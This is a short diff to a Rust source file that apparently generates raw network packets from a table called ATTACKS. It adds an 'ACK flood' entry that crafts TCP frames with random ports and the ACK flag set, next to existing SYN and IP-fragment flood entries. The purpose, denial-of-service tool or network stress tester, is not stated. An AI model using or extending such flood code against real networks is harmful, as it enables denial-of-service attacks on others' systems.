@@ -36,6 +36,13 @@ const ATTACKS: &[(&str, Attack)] = &[
         frame[46..48].copy_from_slice(&[0x50, 0x02]);
         header(frame);
     }),
+    ("ACK flood", |frame, random| {
+        frame[23] = 6;
+        frame[34..36].copy_from_slice(&(random as u16).to_be_bytes());
+        frame[36..38].copy_from_slice(&((random >> 16) as u16 | 1).to_be_bytes());
+        frame[46..48].copy_from_slice(&[0x50, 0x10]);
+        header(frame);
+    }),
     ("fragments", |frame, random| {
         frame[18..20].copy_from_slice(&(random as u16).to_be_bytes());
         // Firsts and later ones, each of a packet of its own.
